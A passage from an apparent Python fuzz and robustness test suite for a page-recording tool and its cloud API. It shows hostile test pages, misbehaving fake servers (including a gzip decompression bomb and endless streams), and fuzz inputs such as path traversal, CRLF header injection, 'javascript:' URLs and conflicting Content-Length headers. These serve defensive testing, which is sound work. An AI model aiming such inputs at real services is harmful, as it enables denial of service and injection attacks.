                                "() { o.listener (1, {}); }, 50); } }; AgoraEduSDK.launch ("
                                "document.body, new Proxy ({ listener () {} }, { get (t, k) { "
                                "if (k === 'listener') return t.listener; throw new Error ("
                                "'option ' + String (k)); }, ownKeys () { throw 1; }, has () "
                                "{ throw 2; } }));",
        "reassign-flood": "for (let i = 0; i < 10000; i++) window.AgoraEduSDK = "
                          "{ launch () {} }; rhReady ();",
        "version-huge": "window.AgoraEduSDK = { version: 'v'.repeat (10 << 20), launch (el, o) "
                        "{ setTimeout (function () { o.listener (1, {}); }, 50); } }; "
                        "AgoraEduSDK.launch (document.body, { listener () {} });",
        "notify-flood": "for (let i = 0; i < 100000; i++) navigator.notifyReady ();",
    }.items():
        add(f"sdk-{name}", js, ready=name in ("getter-throws", "proxy", "notify-flood"),
            quick=name in ("listener-flood", "launch-options-proxy"))
    return pages


def page_cases(probe):
    cases = []
    for name, js, ready, quick, options in page_list():
        body = options.get("body", "")
        scripts = f"<script>{READY_JS}</script>\n<script>\n{js}\n</script>\n"
        if ready:
            scripts += "<script>rhReady ();</script>\n"
        text = (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"
                f"{options.get('head', '')}<title>{name}</title></head>\n"
                f"<body style=\"background:#3a6\"><p>{name}</p>{body}\n{scripts}</body></html>\n")
        path = probe.write_page(name, text)
        cases.append(Case("pages", f"pages/{name}",
                          make_page_case(probe, path, f"pages/{name}",
                                         options.get("timeout", 5), options.get("quiet", True),
                                         options),
                          quick=quick, slow=True))
    cases.append(Case("pages", ROUTED_NAME, routed_case(probe), quick=True, slow=True))
    return cases


ROUTED_NAME = "pages/routed requests from a Worker and an iframe"


def routed_case(probe):
    """--route applies to every context of the page: a Worker's and an iframe's requests
    reach the route's target and are in the report's requests."""
    def case():
        o = Outcome("pages", ROUTED_NAME)
        server = RawServer(lambda conn, server, req: answer(
            conn, 200, b"ok", ctype="text/plain", extra=b"Access-Control-Allow-Origin: *\r\n"))
        try:
            direct = f"http://127.0.0.1:{server.port}"
            probe.write_page("routed-frame", "<!DOCTYPE html>\n<script>fetch ("
                             "'http://routed.test/iframe-ping');</script>\n")
            worker = ("fetch ('http://routed.test/worker-ping'); fetch ('" + direct
                      + "/worker-control');")
            path = probe.write_page("routed", (
                "<!DOCTYPE html>\n<body><iframe src=\"routed-frame.html\"></iframe>\n<script>"
                + READY_JS + "\nnew Worker (URL.createObjectURL (new Blob ([" + js_string(worker)
                + "])));\nsetTimeout (rhReady, 2000);\n</script></body>\n"))
            argv = ["check", path, "--app-id=a", "--room-uuid=r", "--room-type=4", "--json",
                    "--timeout=10", "--paint-grace-ms=0", "-q",
                    f"--route=routed.test={direct}"]
            run = probe.run(argv, 35, name="routed")
        finally:
            server.close()
        o.repro = probe.command(run) + "   # with a server on the route's port"
        rc = judge(o, run, bound=35)
        expect_status(o, rc, {0, 1})
        seen = b"\n".join(server.requests)
        report = parse_report(o, run) if rc is not None else None
        listed = " ".join(strings_of(report.get("requests", []), [])) if report else ""
        if b"/worker-control" not in seen:
            o.problem("the Worker's request to 127.0.0.1 itself (not routed) never arrived "
                      "either: the Worker's requests fail altogether")
        for what in ("worker-ping", "iframe-ping"):
            if f"/{what}".encode() not in seen:
                o.problem(f"the {what.split('-')[0]}'s request to the routed host did not "
                          f"reach the route's target")
            if report is not None and what not in listed:
                o.problem(f"the {what.split('-')[0]}'s request is not in the report's requests")
        return [o]
    return case


def make_page_case(probe, path, name, timeout, quiet, options=None):
    options = options or {}

    def case():
        o = Outcome("pages", name)
        argv = ["check", path, "--app-id=a", "--room-uuid=r", "--room-type=4", "--json",
                f"--timeout={timeout}", "--paint-grace-ms=0"] + (["-q"] if quiet else [])
        memory = options.get("page_memory")
        if memory:
            argv.append(f"--page-memory={memory}")
        bound = timeout + 25
        # A bound that does not hold must not take the machine with it.
        proc = probe.proc(argv, name="page", tree_max_kib=(3 << 20) if memory else None)
        run = proc.finish(bound * probe.scale, linger=1.0 if options.get("bounded") else None)
        o.repro = probe.command(run)
        rc = judge(o, run, bound=bound)
        expect_status(o, rc, {1} if memory else {0, 1})
        if memory and run.tree_kib > (memory + 400) * 1024 * probe.scale:
            o.problem(f"process tree RSS {run.tree_kib >> 10} MiB with --page-memory={memory} "
                      f"(bound {memory} + 400 MiB)")
        if options.get("bounded"):
            if not run.timed_out and run.elapsed > timeout + 1 * probe.scale:
                o.problem(f"ended {run.elapsed:.1f} s after start: more than --timeout {timeout} "
                          f"s + 1 s")
            if run.left:
                o.problem(f"{len(run.left)} engine process(es) still alive 1 s after the "
                          f"check ended")
        if (rc is not None and rc != 2) or (o.leaks and not o.crash):
            report = parse_report(o, run)
            if report is not None:
                if report.get("verdict") not in ("pass", "fail"):
                    o.problem(f"verdict {report.get('verdict')!r}")
                if rc is not None and report.get("exit_status") != rc:
                    o.problem(f"report says exit_status {report.get('exit_status')}, "
                              f"exited {rc}")
        late = run.elapsed - timeout - 5 * probe.scale
        if not run.timed_out and late > 0:
            o.problem(f"ended {run.elapsed:.1f} s after start, later than its --timeout "
                      f"{timeout} s")
        if run.err_size > REPORT_MAX:
            o.problem(f"stderr is {run.err_size / 1e6:.1f} MB")
        if run.hwm_kib > RSS_MAX_KIB * probe.scale:
            o.problem(f"peak RSS {run.hwm_kib // 1024} MiB (bound "
                      f"{RSS_MAX_KIB * probe.scale // 1024:.0f} MiB)")
        if not quiet:
            lines = [x for x in stderr_before_report(run).split(b"\n")
                     if x.decode("utf-8", "replace") not in STDERR_NOISE]
            check_printable(o, b"\n".join(lines), "stderr")
        o.notes.append(f"{run.elapsed:.1f} s, peak RSS {run.hwm_kib // 1024} MiB, tree "
                       f"{run.tree_kib // 1024} MiB")
        return [o]
    return case


# ---------------------------------------------------------------------------------------
# 3. hostile ready servers


OK_BODY = b'{"msg":"Success","code":0,"ts":1}'


def stream(conn, server, head, chunk, chunked=False, delay=0.0, total=None):
    conn.sendall(head)
    sent = 0
    while not server.stop.is_set() and (total is None or sent < total):
        piece = chunk if total is None else chunk[: total - sent]
        conn.sendall(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
        sent += len(piece)
        if delay:
            server.stop.wait(delay)


_GZIP_BOMB = []


def gzip_bomb():
    """1 GiB of zeros, gzip-compressed (about 1 MB)."""
    if not _GZIP_BOMB:
        compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
        block = bytes(1 << 20)
        parts = [compressor.compress(block) for _ in range(1024)]
        parts.append(compressor.flush())
        _GZIP_BOMB.append(b"".join(parts))
    return _GZIP_BOMB[0]


def ready_behaviours():
    """name -> (behaviour, expected verdict, ends early (a final answer), https)."""
    b = {}

    def ok(conn, server, req):
        answer(conn, 200, OK_BODY)

    b["ok"] = (ok, "pass", True, False)
    b["ok-201"] = (lambda c, s, r: answer(c, 201, OK_BODY, reason=b"Created"), "pass", True,
                   False)
    b["ok-wrong-content-type"] = (lambda c, s, r: answer(c, 200, OK_BODY, ctype="text/html"),
                                  "pass", True, False)
    b["ok-after-500"] = (lambda c, s, r: answer(c, 500, b"{}") if s.attempts < 3
                         else answer(c, 200, OK_BODY), "pass", True, False)

    def trickle_fast(conn, server, req):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(OK_BODY))
        for i in range(len(OK_BODY)):
            conn.sendall(OK_BODY[i: i + 1])
            server.stop.wait(0.02)

    b["ok-trickle-fast"] = (trickle_fast, "pass", True, False)
    b["brackets-1e6"] = (lambda c, s, r: answer(c, 200, b"[" * 1000000), "fail", False, False)
    b["gib-streamed"] = (lambda c, s, r: stream(
        c, s, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
        % (1 << 30), b"{" * 65536, total=1 << 30), "fail", False, False)
    b["chunked-endless"] = (lambda c, s, r: stream(
        c, s, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n", b"[" * 4096, chunked=True), "fail", False, False)
    b["chunked-endless-slow"] = (lambda c, s, r: stream(
        c, s, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n", b" ", chunked=True, delay=0.2), "fail", False,
        False)
    b["500-forever"] = (lambda c, s, r: answer(c, 500, b'{"code":500,"msg":"down"}',
                                               reason=b"Internal Server Error"),
                        "fail", False, False)
    b["503-forever"] = (lambda c, s, r: answer(c, 503, b"", reason=b"Unavailable"),
                        "fail", False, False)
    b["429-forever"] = (lambda c, s, r: answer(c, 429, b"{}", reason=b"Too Many"),
                        "fail", False, False)

    def trickle_slow(conn, server, req):
        body = b'{"msg":"Success","code":0,"ts":1,"pad":"' + b" " * 64 + b'"}'
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(body))
        for i in range(len(body)):
            if server.stop.is_set():
                return
            conn.sendall(body[i: i + 1])
            server.stop.wait(1.0)

    b["trickle-slow"] = (trickle_slow, "fail", False, False)
    for name, body in (("invalid-json", b"{code:0}"), ("code-0.5", b'{"code":0.5}'),
                       ("code-string-0", b'{"code":"0"}'), ("code-null", b'{"code":null}'),
                       ("code-missing", b'{"msg":"Success"}'), ("code-1", b'{"code":1}'),
                       ("code-true", b'{"code":true}'), ("code-huge", b'{"code":1e400}'),
                       ("code-2^64", b'{"code":18446744073709551616}'),
                       ("array-envelope", b'[{"code":0}]'), ("empty-body", b""),
                       ("nul-bytes", b"\x00" * 100), ("html", b"<html>ok</html>"),
                       ("invalid-utf8", b'{"code":0,"msg":"\xff\xfe"}x'),
                       ("deep-json", b'{"code":0,"x":' + b"[" * 100000 + b"]" * 100000 + b"}")):
        b[f"200-{name}"] = ((lambda body: lambda c, s, r: answer(c, 200, body))(body), "fail",
                            True, False)
    b["204"] = (lambda c, s, r: c.sendall(b"HTTP/1.1 204 No Content\r\n\r\n"), "fail", True,
                False)
    b["404-code-0"] = (lambda c, s, r: answer(c, 404, OK_BODY, reason=b"Not Found"), "fail",
                       True, False)
    b["403"] = (lambda c, s, r: answer(c, 403, b'{"code":403,"msg":"no"}', reason=b"Forbidden"),
                "fail", True, False)
    b["envelope-over-bound"] = (lambda c, s, r: answer(
        c, 200, b'{"code":0,"msg":"' + b"m" * (10 << 20) + b'"}'), "fail", False, False)
    b["huge-header-line"] = (lambda c, s, r: c.sendall(
        b"HTTP/1.1 200 OK\r\nX-Big: " + b"h" * (8 << 20) + b"\r\nContent-Length: %d\r\n\r\n"
        % len(OK_BODY) + OK_BODY), "fail", False, False)

    def many_headers(conn, server, req):
        conn.sendall(b"HTTP/1.1 200 OK\r\n")
        for i in range(100000):
            if server.stop.is_set():
                return
            conn.sendall(b"X-H%d: v\r\n" % i)
        conn.sendall(b"Content-Length: %d\r\n\r\n" % len(OK_BODY) + OK_BODY)

    b["many-headers"] = (many_headers, "fail", False, False)
    b["endless-headers"] = (lambda c, s, r: stream(c, s, b"HTTP/1.1 200 OK\r\n",
                                                   b"X-A: " + b"a" * 1000 + b"\r\n"),
                            "fail", False, False)
    b["100-continue-flood"] = (lambda c, s, r: stream(c, s, b"",
                                                      b"HTTP/1.1 100 Continue\r\n\r\n"),
                               "fail", False, False)
    b["https-to-plain"] = (ok, "fail", False, True)
    b["close-mid-reply"] = (lambda c, s, r: c.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n{\"code\":0"), "fail", False, False)
    b["close-at-once"] = (lambda c, s, r: None, "fail", False, False)

    def reset(conn, server, req):
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")

    b["reset"] = (reset, "fail", False, False)
    b["silent"] = (lambda c, s, r: sleep_until_stopped(s, 120), "fail", False, False)
    b["garbage-status"] = (lambda c, s, r: c.sendall(b"HTTP/1.1 abc OK\r\n\r\n" + OK_BODY),
                           "fail", False, False)
    b["not-http"] = (lambda c, s, r: c.sendall(b"\x16\x03\x01\x02\x00" + bytes(range(256)) * 8),
                     "fail", False, False)
    b["redirect-loop"] = (lambda c, s, r: c.sendall(
        b"HTTP/1.1 308 Permanent Redirect\r\nLocation: /edu/loop\r\nContent-Length: 0\r\n\r\n"),
        "fail", False, False)
    b["gzip-bomb"] = (lambda c, s, r: c.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
        b"Content-Length: %d\r\n\r\n" % len(gzip_bomb()) + gzip_bomb()), "fail", False, False)
    return b


QUICK_READY = {"ok", "gib-streamed", "chunked-endless", "500-forever", "200-code-0.5",
               "200-code-string-0", "huge-header-line", "close-mid-reply", "gzip-bomb",
               "200-invalid-json"}


def ready_cases(probe):
    cases = []
    for name, (behave, verdict, early, https) in ready_behaviours().items():
        cases.append(Case("ready-servers", f"ready-servers/{name}",
                          make_ready_case(probe, f"ready-servers/{name}", behave, verdict,
                                          early, https),
                          quick=name in QUICK_READY, slow=True))
    return cases


def make_ready_case(probe, name, behave, verdict, early, https, timeout=8):
    def case():
        o = Outcome("ready-servers", name)
        server = RawServer(behave)
        base = server.url.replace("http:", "https:") if https else server.url
        try:
            argv = ["check", probe.page, "--app-id=a", "--room-uuid=r", "--room-type=4",
                    f"--api-base={base}", f"--timeout={timeout}", "--json", "-q",
                    "--paint-grace-ms=0", "--param=sdkReadyMs=50"]
            bound = timeout + 25
            run = probe.run(argv, bound, name="ready")
        finally:
            server.close()
        o.repro = probe.rerun(name) + "   # the server's answer is in the script; then: " + \
            probe.command(run)
        rc = judge(o, run, bound=bound)
        want = 0 if verdict == "pass" else 1
        expect_status(o, rc, {want})
        report = parse_report(o, run) if rc is not None else None
        if report is not None and report.get("verdict") != verdict:
            o.problem(f"verdict {report.get('verdict')!r}, expected {verdict!r} "
                      f"(error: {str(report.get('error'))[:120]!r})")
        if not run.timed_out and run.elapsed > timeout + 5 * probe.scale:
            o.problem(f"ended {run.elapsed:.1f} s after start, later than its --timeout "
                      f"{timeout} s")
        if early and verdict == "fail" and not run.timed_out and run.elapsed > timeout - 1:
            o.problem(f"a final answer, yet the check waited {run.elapsed:.1f} s "
                      f"(its --timeout is {timeout} s)")
        if run.hwm_kib > RSS_MAX_KIB * probe.scale:
            o.problem(f"peak RSS {run.hwm_kib // 1024} MiB (bound "
                      f"{RSS_MAX_KIB * probe.scale // 1024:.0f} MiB)")
        o.notes.append(f"{run.elapsed:.1f} s, {server.attempts} attempt(s), "
                       f"peak RSS {run.hwm_kib // 1024} MiB")
        return [o]
    return case


# ---------------------------------------------------------------------------------------
# 4. the cloud's API


INTERNALS = ["sqlite", "cloud store", "cloud.sqlite3", "/work/", ".c:", "gerror", "errno",
             "no such file or directory", "permission denied", "json-glib", "soup_"]


class CloudFixture:
    """One `recordhost cloud` shared by the cases of an instance, started on first use."""

    def __init__(self, probe, label, token=None, extra=(), env=None, file_pages=False):
        self.probe = probe
        self.label = label
        self.token = token
        self.extra = list(extra)
        self.env = env
        self.file_pages = file_pages
        self.lock = threading.Lock()
        self.proc = None
        self.port = None
        self.error = None
        self.death_reported = False
        self.data_dir = probe.workdir / f"cloud-{label}"
        self.counter = 0

    def ensure(self):
        with self.lock:
            if self.proc is None and self.error is None:
                self.data_dir.mkdir(parents=True, exist_ok=True)
                argv = self.argv()
                self.proc = self.probe.proc(argv, env=self.env, name=f"cloud-{self.label}")
                url = self.proc.first_line(30 * self.probe.scale)
                if not url or ":" not in url:
                    self.error = "the cloud did not start: " + \
                        self.proc.err_path.read_bytes()[:300].decode("utf-8", "replace")
                else:
                    self.port = int(url.rstrip("/").rsplit(":", 1)[1])
            return self.error is None

    def room(self):
        with self.lock:
            self.counter += 1
            return f"probe-{self.counter}"

    def argv(self):
        argv = ["cloud", "--listen=127.0.0.1:0", f"--data-dir={self.data_dir}"]
        if self.token and not self.extra and not self.env:
            argv.append(f"--require-token={self.token}")
        if self.file_pages and self.probe.cloud_knows("allow-file-pages"):
            argv.append("--allow-file-pages")
        return argv + self.extra

    def headers(self):
        return [("x-agora-token", self.token)] if self.token else []

    def argv_hint(self):
        return self.probe.command(self.argv(), self.env)

    def stop_rooms(self, paths):
        for path in paths:
            api(self.port, "PUT", path + "/records/states/0", b"", self.headers())

    def records(self, path):
        """The room's recordings, asked as the operator would (None: no such room)."""
        resp = api(self.port, "GET", path + "/records", None, self.headers())
        try:
            return json.loads(resp.body)["data"]["list"] if resp.status == 200 else None
        except (ValueError, KeyError, TypeError):
            return None


def check_alive(o, fx):
    if fx.proc is not None and not fx.proc.alive():
        rc = fx.proc.popen.returncode
        with fx.lock:
            first = not fx.death_reported
            fx.death_reported = True
        if first:
            o.crash = f"the cloud died during this case (exit {rc if rc >= 0 else signame(-rc)})"
        else:
            o.problem("the cloud is gone (died in an earlier case)")
        return False
    return True


def check_envelope(o, resp, fx, allow_empty=False, no_2xx=False, want=None,
                   allow_no_answer=False):
    if resp.error or resp.status is None:
        if not allow_no_answer:
            o.problem(f"no answer: {resp.error}")
        return
    body = resp.body
    if resp.status == 500:
        o.problem(f"HTTP 500 for bad input: {body[:160]!r}")
    if want is not None and resp.status not in want:
        o.problem(f"HTTP {resp.status}, expected {' or '.join(map(str, sorted(want)))}: "
                  f"{body[:120]!r}")
    if no_2xx and 200 <= resp.status < 300:
        o.problem(f"accepted: HTTP {resp.status} {body[:160]!r}")
    if "x-injected" in resp.headers:
        o.problem("a header was injected into the answer")
    lower = body.decode("utf-8", "replace").lower()
    for word in INTERNALS + [str(fx.data_dir).lower()]:
        if word in lower:
            o.problem(f"the answer shows internals ({word!r}): {body[:200]!r}")
            break
    if not body:
        if not allow_empty:
            o.problem(f"HTTP {resp.status} with an empty body: not a JSON envelope")
        return
    try:
        envelope = json.loads(body.decode("utf-8"))
    except (UnicodeDecodeError, ValueError):
        o.problem(f"HTTP {resp.status} body is not JSON: {body[:120]!r}")
        return
    if not isinstance(envelope, dict) or not isinstance(envelope.get("msg"), str) \
            or type(envelope.get("code")) is not int or type(envelope.get("ts")) is not int:
        o.problem(f"HTTP {resp.status} body is not a {{msg, code, ts}} envelope: {body[:120]!r}")


class RssWatch:
    """Peak RSS of a process while a case runs."""

    def __init__(self, pid):
        self.pid = pid
        self.before = proc_status(pid, "VmRSS")
        self.peak = self.before
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.is_set():
            self.peak = max(self.peak, proc_status(self.pid, "VmRSS"))
            self.stop.wait(0.05)

    def done(self):
        self.stop.set()
        self.thread.join()
        return (self.peak - self.before) // 1024


WEIRD_UUIDS = ["%2e%2e", "%2E%2E", "%2e", "..", ".", "%00", "a%00b", "%ff", "%C3%28", "%",
               "%zz", "%2f", "a%2fb", "a" * 300, "a" * 3000, "%E6%BC%A2%E5%AD%97",
               "漢字".encode(), b"\xff\xfe", "%0a", "%0d%0aX-Injected:%201", "%1b%5b2J", "%7f",
               b"\x1b[2J", b"\x7f", "%e2%80%ae", "%c2%9b", "%20", "<script>", "'\"", "%u2028",
               ";", "a;b=c", "%25", "%2525", "~", "%2e%2e%2f%2e%2e", "..%2f..%2fetc"]
START_BAD = [
    {}, {"mode": "web"}, {"mode": "x", "webRecordConfig": {"rootUrl": "PAGE"}},
    {"mode": 1, "webRecordConfig": {"rootUrl": "PAGE"}},
    {"mode": "web", "webRecordConfig": "x"}, {"mode": "web", "webRecordConfig": []},
    {"mode": "web", "webRecordConfig": None},
] + [{"mode": "web", "webRecordConfig": {"rootUrl": v}}
     for v in ("", "ftp://x", "javascript:alert(1)", "notaurl", "http://[::1", 123, None, ["x"])] \
  + [{"mode": "web", "webRecordConfig": {"rootUrl": "PAGE", k: v}}
     for k, values in (("videoWidth", (479, 1921, "1280", 1e9, -1, 1.5)),
                       ("videoHeight", (479, 1921, -1)),
                       ("videoBitrate", (49, 8001, "x", -1)), ("videoFps", (4, 61, 0, "x")),
                       ("maxRecordingHour", (-1, 1e9, "x")), ("onHold", ("yes", []))
                       ) for v in values] \
  + [{"mode": "web", "webRecordConfig": {"rootUrl": "PAGE", "videoWidth": 1920,
                                         "videoHeight": 1920}}] \
  + [{"mode": "web", "webRecordConfig": {"rootUrl": "PAGE"}, "retryTimeout": v}
     for v in (-1, 1e9, "x")]
POST_BAD = [b"{", b"}", b"[]", b"null", b"1", b'"s"', b"\xff\xfe", b"\x00",
            b'{"roomType":"4"}', b'{"roomType":1e309}', b'{"roomType":-1}', b'{"roomType":4.5}',
            b'{"roomType":3}', b'{"roomType":99999999999999999999}',
            b'{"roomName":{},"roomType":4}', b'{"a":' + b"[" * 30000 + b"]" * 30000 + b"}",
            b"[" * 65000, b'{"roomName":"n\xff","roomType":4}']
POST_ODD = [b"", b"\xef\xbb\xbf{}", b'{"roomType":4,"roomType":"x"}',
            b'{"roomName":"' + b"n" * 65000 + b'","roomType":4}',
            b'{"roomName":"\\ud800","roomType":4}']
METHODS = ["DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "GETT",
           "X" * 1000, "PATCH", "POST", "PUT", "GET"]


def api_specs(probe):
    """(name, fn(fx, o)) for the API cases."""
    specs = []
    # An http page: a file: page would be refused for being one, not for the field tried.
    page_url = attacker_site(probe).url + "/harmless.html"

    def add(name, fn):
        specs.append((name, fn))

    def call(fx, o, method, path, body=b"", extra=None, **expect):
        data = build_request(method, path, body, fx.headers() + (extra or []))
        resp = http_call(fx.port, data, 15, head_only=method == "HEAD")
        check_envelope(o, resp, fx, **expect)
        return resp

    def room_path(fx, uuid=None):
        return f"/edu/apps/a/v2/rooms/{uuid or fx.room()}"

    for i, body in enumerate(POST_BAD):
        add(f"POST room, bad body {show(body)}",
            lambda fx, o, body=body: call(fx, o, "POST", room_path(fx), body, no_2xx=True))
    for body in POST_ODD:
        add(f"POST room, odd body {show(body)}",
            lambda fx, o, body=body: call(fx, o, "POST", room_path(fx), body))
    for config in START_BAD:
        text = json.dumps(config).replace('"PAGE"', json.dumps(page_url))

        def start(fx, o, text=text):
            path = room_path(fx)
            resp = call(fx, o, "PUT", path + "/records/states/1", text.encode(), no_2xx=True)
            if resp.status is not None and 200 <= resp.status < 300:
                api(fx.port, "PUT", path + "/records/states/0", b"", fx.headers())
        add(f"PUT states/1 {text.replace(page_url, 'PAGE')[:90]}", start)
    add("PUT states/1 invalid UTF-8 rootUrl",
        lambda fx, o: call(fx, o, "PUT", room_path(fx) + "/records/states/1",
                           b'{"mode":"web","webRecordConfig":{"rootUrl":"file:///\xff"}}',
                           no_2xx=True))
    for body in (b"", b"{", b'{"webRecordConfig":{"onHold":"no"}}', b'{"webRecordConfig":null}',
                 b"[]", b'{"webRecordConfig":{"onHold":false}}'):
        add(f"PATCH states/1 (not recording) {show(body)}",
            lambda fx, o, body=body: call(fx, o, "PATCH", room_path(fx) + "/records/states/1",
                                          body, no_2xx=True))
    for body in (b"", b"{", b"\xff" * 100, b"x" * 60000):
        add(f"PUT ready (not recording) {show(body)}",
            lambda fx, o, body=body: call(fx, o, "PUT", room_path(fx) + "/records/ready", body))
    add("PUT states/0 (not recording)",
        lambda fx, o: call(fx, o, "PUT", room_path(fx) + "/records/states/0", no_2xx=True))

    for uuid in WEIRD_UUIDS:
        raw = uuid if isinstance(uuid, bytes) else uuid.encode()
        path = b"/edu/apps/a/v2/rooms/" + raw
        add(f"GET records of room {show(uuid)}",
            lambda fx, o, path=path: call(fx, o, "GET", path + b"/records"))
        add(f"POST room {show(uuid)}",
            lambda fx, o, path=path: call(fx, o, "POST", path,
                                          b'{"roomName":"n","roomType":4}'))
        add(f"GET sequences of room {show(uuid)}",
            lambda fx, o, path=path: call(fx, o, "GET", path + b"/sequences?nextId=0"))
    for app in WEIRD_UUIDS[::3]:
        raw = app if isinstance(app, bytes) else app.encode()
        add(f"GET records of app {show(app)}",
            lambda fx, o, raw=raw: call(fx, o, "GET", b"/edu/apps/" + raw + b"/v2/rooms/r/records"))
    for region in ("cn", "CN", "xx", "%2e%2e", "..", "r" * 1000, "%00", "%0a"):
        add(f"GET records in region {show(region)}",
            lambda fx, o, region=region: call(fx, o, "GET",
                                              f"/{region}/edu/apps/a/v2/rooms/r/records"))
    add("GET records in region ''",
        lambda fx, o: call(fx, o, "GET", "//edu/apps/a/v2/rooms/r/records"))
    for path in ("/", "/edu", "/edu/apps", "/edu/apps/a", "/edu/apps/a/v2/rooms",
                 "/edu/apps/a/v2/rooms/r/records/states/2",
                 "/edu/apps/a/v2/rooms/r/records/states/-1", "/edu/apps/a/v2/rooms/r/records/x",
                 "/edu/apps/a/v2/rooms/r/sequences/x", "/edu/apps/a/v2/rooms/r/records/../records",
                 "/edu/apps/a/v2/rooms/r/records/", "*",
                 "http://evil.invalid/edu/apps/a/v2/rooms/r/records",
                 "/edu/apps/a/v2/rooms/r/records#frag", "/health", "/health/../edu",
                 "/edu/apps/a/v2/rooms/r/records;x", "/edu/apps/a/v2/configs",
                 "/edu/apps/%ff/v2/configs", "/" + "p" * 100000):
        add(f"GET {show(path)}", lambda fx, o, path=path: call(
            fx, o, "GET", path, allow_no_answer=len(path) > 10000))
    add("PUT sdk check-in, odd user",
        lambda fx, o: call(fx, o, "PUT", "/edu/apps/a/v3/rooms/r/users/%ff%00", b"{"))
    for query in ("nextId=-1", "nextId=abc", "nextId=1e99", "nextId=99999999999999999999",
                  "nextId=0x10", "nextId=", "nextId", "cmd=abc", "cmd=-1", "cmd=1001&cmd=1",
                  "nextId=1&nextId=2", "%00=1", "nextId=%00", "nextId=%ff", "&&&&", "=",
                  "nextId=" + "9" * 60000, "nextId=1%0d%0aX-Injected:1"):
        add(f"GET sequences?{show(query)}",
            lambda fx, o, query=query: call(fx, o, "GET",
                                            f"/edu/apps/a/v2/rooms/r/sequences?{query}"))
    endpoints = {"room": "", "start": "/records/states/1", "stop": "/records/states/0",
                 "ready": "/records/ready", "records": "/records", "sequences": "/sequences"}
    allowed = {"room": "POST", "start": "PUT PATCH", "stop": "PUT", "ready": "PUT",
               "records": "GET", "sequences": "GET"}
    for label, suffix in endpoints.items():
        for method in METHODS:
            if method in allowed[label].split():
                continue
            add(f"{show(method)} {label}",
                lambda fx, o, method=method, suffix=suffix: call(
                    fx, o, method, room_path(fx) + suffix, b"",
                    allow_empty=method in ("HEAD", "OPTIONS"),
                    no_2xx=method not in ("OPTIONS",)))

    def raw(fx, o, data, timeout=15, **expect):
        resp = http_call(fx.port, data, timeout)
        check_envelope(o, resp, fx, **expect)
        return resp

    def tok(fx):
        return b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in fx.headers())

    heads = {
        "Content-Length -1": b"Content-Length: -1\r\n",
        "Content-Length abc": b"Content-Length: abc\r\n",
        "two Content-Lengths": b"Content-Length: 2\r\nContent-Length: 5\r\n",
        "Content-Length and chunked": b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding gzip": b"Transfer-Encoding: gzip\r\n",
        "100 KB header": b"X-Big: " + b"b" * 100000 + b"\r\n",
        "10000 headers": b"".join(b"X-H%d: v\r\n" % i for i in range(10000)),
        "header without colon": b"NoColonHere\r\n",
        "NUL in header": b"X-N: a\x00b\r\n",
        "folded header": b"X-F: a\r\n b\r\n",
        "Content-Type garbage": b"Content-Type: \xff\xfe/\x00\r\n",
    }
    for label, head in heads.items():
        # A request too big to read may be cut off without an answer.
        add(f"request with {label}",
            lambda fx, o, head=head, label=label: raw(
                fx, o, b"POST " + room_path(fx).encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                + tok(fx) + head + b"Connection: close\r\n\r\n{}",
                allow_no_answer=label in ("100 KB header", "10000 headers")))
    lines = {
        "HTTP/9.9": b"GET /edu/apps/a/v2/rooms/r/records HTTP/9.9\r\nHost: 127.0.0.1\r\n",
        "HTTP/1.1 without Host": b"GET /edu/apps/a/v2/rooms/r/records HTTP/1.1\r\n",
        "HTTP/0.9": b"GET /edu/apps/a/v2/rooms/r/records\r\n",
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n",
        "empty request line": b"\r\n",
        "garbage": bytes(range(256)) * 4 + b"\r\n",
        "TLS hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 500,
        "space in path": b"GET /edu/apps/a/v2/rooms/a b/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
        "tab in path": b"GET /edu/apps/a/v2/rooms/a\tb/records HTTP/1.1\r\nHost: 127.0.0.1\r\n",
        "lowercase version": b"GET /edu/apps/a/v2/rooms/r/records http/1.1\r\nHost: 127.0.0.1\r\n",
    }
    for label, line in lines.items():
        add(f"request line {label}",
            lambda fx, o, line=line: raw(fx, o, line + tok(fx) + b"Connection: close\r\n\r\n",
                                         allow_no_answer=True))
    return specs


def big_body_specs(probe):
    """(name, fn): bodies far over the bound; the cloud must refuse them unread."""
    specs = []

    def refuse_unread(fx, o, head, want, stream_body=None):
        watch = RssWatch(fx.proc.pid)
        sock = socket.create_connection(("127.0.0.1", fx.port), timeout=15)
        sent = [0]
        stop = threading.Event()

        def pump():
            try:
                while not stop.is_set() and sent[0] < (200 << 20):
                    data = stream_body()
                    sock.sendall(data)
                    sent[0] += len(data)
            except OSError:
                pass
        try:
            sock.sendall(head)
            if stream_body:
                thread = threading.Thread(target=pump, daemon=True)
                thread.start()
            resp = read_response(sock, deadline=time.monotonic() + 10)
            stop.set()
        finally:
            sock.close()
        grew = watch.done()
        check_envelope(o, resp, fx, want=want)
        if resp.elapsed > 3 * probe.scale:
            o.problem(f"answered after {resp.elapsed:.1f} s: the body was read?")
        if grew > 64 * probe.scale:
